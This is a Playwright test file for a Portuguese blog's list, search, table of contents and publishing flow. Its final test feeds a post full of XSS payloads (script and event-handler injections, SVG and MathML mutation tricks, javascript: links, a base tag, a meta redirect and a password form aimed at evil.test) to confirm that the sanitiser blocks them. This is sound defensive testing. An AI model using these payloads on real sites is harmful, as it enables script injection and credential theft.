import type { Page } from "@playwright/test";
import { administrator } from "../fixtures/administrator.ts";
import { expect, test } from "../fixtures/test.ts";

const dns = "/blog/dns-sem-misterio-por-que-o-site-demora-a-aparecer";

const cards = (page: Page) => page.getByRole("main").getByRole("article");
const box = (page: Page) => page.getByRole("searchbox");

test("the list links to an article, and Back returns to the list", async ({ page }) => {
  await page.goto("/blog");
  await expect(cards(page).filter({ hasText: "DNS sem mistério" })).toBeVisible();
  await page.getByRole("link", { name: /DNS sem mistério/ }).click();
  await expect(page).toHaveURL(dns);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(/DNS sem mistério/);
  await expect(page).toHaveTitle(/Propagação de DNS/);
  await expect(page.getByText("Por Equipe Site Pronto")).toBeVisible();
  await expect(page.getByText("6 de outubro de 2026")).toBeVisible();
  await page.goBack();
  await expect(page).toHaveURL("/blog");
  await expect(cards(page).filter({ hasText: "DNS sem mistério" })).toBeVisible();
});

test("a search ignores case and accents, is in the URL and survives a reload", async ({ page }) => {
  await page.goto("/blog");
  await expect(cards(page).first()).toBeVisible();
  await box(page).pressSequentially("DOMINIO");
  await expect(page).toHaveURL("/blog?busca=DOMINIO");
  await expect(page.getByText(/artigos? encontrados? para “DOMINIO”/)).toBeVisible();
  await expect(cards(page).filter({ hasText: "Como escolher e registrar o domínio" })).toBeVisible();
  await expect(cards(page).filter({ hasText: "Fotos do seu negócio" })).toHaveCount(0);
  await page.reload();
  await expect(box(page)).toHaveValue("DOMINIO");
  await expect(cards(page).filter({ hasText: "Fotos do seu negócio" })).toHaveCount(0);

  await box(page).fill("isto não existe em lugar nenhum");
  await box(page).press("Enter");
  await expect(page.getByText("Nada encontrado para “isto não existe em lugar nenhum”")).toBeVisible();
  await page.getByRole("link", { name: "Ver todos os artigos" }).click();
  await expect(page).toHaveURL("/blog");
  await expect(box(page)).toHaveValue("");
});

test.describe("the blog without scripts", () => {
  test.use({ javaScriptEnabled: false });

  test("the list and the articles are complete and link to each other without scripts", async ({ page }) => {
    await page.goto("/blog");
    await expect(cards(page).filter({ hasText: "Fotos do seu negócio" })).toBeVisible();
    await page.getByRole("link", { name: /DNS sem mistério/ }).click();
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(/DNS sem mistério/);
    await expect(page.getByText("Nada está se “espalhando” pelo mundo")).toBeVisible();
    await expect(page.getByRole("navigation", { name: "Neste artigo" })).toBeVisible();
    await page.getByRole("link", { name: "Como escolher e registrar o domínio" }).click();
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(/Como escolher e registrar o domínio/);
  });
});

test("the table of contents links to the sections of an article", async ({ page }) => {
  await page.goto(dns);
  await page
    .getByRole("navigation", { name: "Neste artigo" })
    .getByRole("link", { name: "Como acompanhar" })
    .click();
  await expect(page).toHaveURL(/#secao-como-acompanhar$/);
  await expect(page.getByRole("heading", { name: "Como acompanhar" })).toBeInViewport();
  await page.reload();
  await expect(page.getByRole("heading", { name: "Como acompanhar" })).toBeInViewport();
});

test("a post appears when published, redirects after a slug change, and disappears when deleted", async ({
  page,
}) => {
  const team = await administrator();
  const slug = `de-passagem-${Date.now()}`;
  await team
    .from("blog_posts")
    .insert({ slug, title: "De passagem", author: "Equipe", content: "## Um\n\nTexto." })
    .throwOnError();
  await page.goto(`/blog/${slug}`);
  await expect(page.getByRole("heading", { level: 1, name: "Artigo não encontrado" })).toBeVisible();

  await team.from("blog_posts").update({ status: "published" }).eq("slug", slug).throwOnError();
  await page.reload();
  await expect(page.getByRole("heading", { level: 1, name: "De passagem" })).toBeVisible();

  await team
    .from("blog_posts")
    .update({ slug: `${slug}-novo` })
    .eq("slug", slug)
    .throwOnError();
  await page.goto("/blog");
  await page.goto(`/blog/${slug}`);
  await expect(page).toHaveURL(`/blog/${slug}-novo`);
  await expect(page.getByRole("heading", { level: 1, name: "De passagem" })).toBeVisible();
  await page.goBack();
  await expect(page).toHaveURL("/blog");

  const { data: post } = await team
    .from("blog_posts")
    .select("id")
    .eq("slug", `${slug}-novo`)
    .single()
    .throwOnError();
  await team.rpc("trash_blog_post", { post_id: post.id }).throwOnError();
  await page.goto(`/blog/${slug}`);
  await expect(page.getByRole("heading", { level: 1, name: "Artigo não encontrado" })).toBeVisible();
});

const hostile = `# Antes

<script>window.ran = "script"</script>
<img src="/nada.png" onerror="window.ran = 'onerror'">
<img src=/nada.png onerror=window.ran='onerror'>
<svg onload="window.ran = 'svg'"><foreignObject><body onload="window.ran = 'foreign'"><p>Dentro do desenho</p></body></foreignObject><script>window.ran = 'svg script'</script></svg>
<iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>

[clique](javascript:window.ran='link') <a href="java&#9;script:window.ran='tab'">aqui</a> <a href="data:text/html,<script>1</script>">ali</a>

<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">
<form action="https://evil.test/"><input name="senha"><button formaction="javascript:window.ran='form'">Enviar</button></form>
<details open ontoggle="window.ran = 'toggle'"><summary>Resumo</summary>Detalhe</details>
<style>body { display: none }</style>
<div style="position: fixed; inset: 0; z-index: 99; background: red" class="fixed inset-0 z-50">Por cima de tudo</div>
<p id="content">Outro conteúdo</p>

Depois, com \`<script>\` como exemplo.`;

test("no script of a malicious post runs", async ({ page, expectConsoleError }) => {
  // The images of the post do not exist.
  expectConsoleError(/status of 404/);
  const elsewhere: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).hostname.endsWith("evil.test")) {
      elsewhere.push(request.url());
    }
  });
  // The database rejects most of this content. The mocked response simulates an older or imported post.
  await page.route("**/rest/v1/blog_posts?*slug=eq.hostil*", (route) =>
    route.fulfill({
      headers: { "access-control-allow-origin": "*" },
      json: [
        {
          slug: "hostil",
          title: "<img src=x onerror=window.ran='title'>",
          excerpt: "<script>window.ran='excerpt'</script>",
          author: "<b onmouseover=window.ran=1>Equipe</b>",
          tags: ["<svg onload=window.ran='tag'>"],
          published_at: "2026-11-01T12:00:00+00:00",
          reading_minutes: 1,
          cover_url: null,
          cover_alt: "",
          cover_width: null,
          cover_height: null,
          content: hostile,
          seo_title: "</title><script>window.ran='head'</script>",
          seo_description: '"><script>window.ran=1</script>',
          seo_keywords: "",
          updated_at: "2026-11-01T12:00:00+00:00",
        },
      ],
    }),
  );
  await page.goto("/blog/hostil");
  for (const text of [
    "Dentro do desenho",
    "Por cima de tudo",
    "Outro conteúdo",
    "Depois, com <script> como exemplo.",
  ]) {
    await expect(page.getByText(text)).toBeVisible();
  }
  await expect(page.getByRole("heading", { name: "Antes", level: 2 })).toBeVisible();
  for (const name of ["clique", "aqui", "ali"]) {
    await page.getByText(name, { exact: true }).click();
  }
  await expect(page).toHaveURL("/blog/hostil");
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
  expect(elsewhere).toEqual([]);
  const body = page.locator(".article-body");
  await expect(
    body.locator(
      "script, style, iframe, svg, math, form, input, button, base, meta, [style], [class]:not(.table-scroll)",
    ),
  ).toHaveCount(0);
  await expect(page.locator("#content")).toHaveCount(1);
});
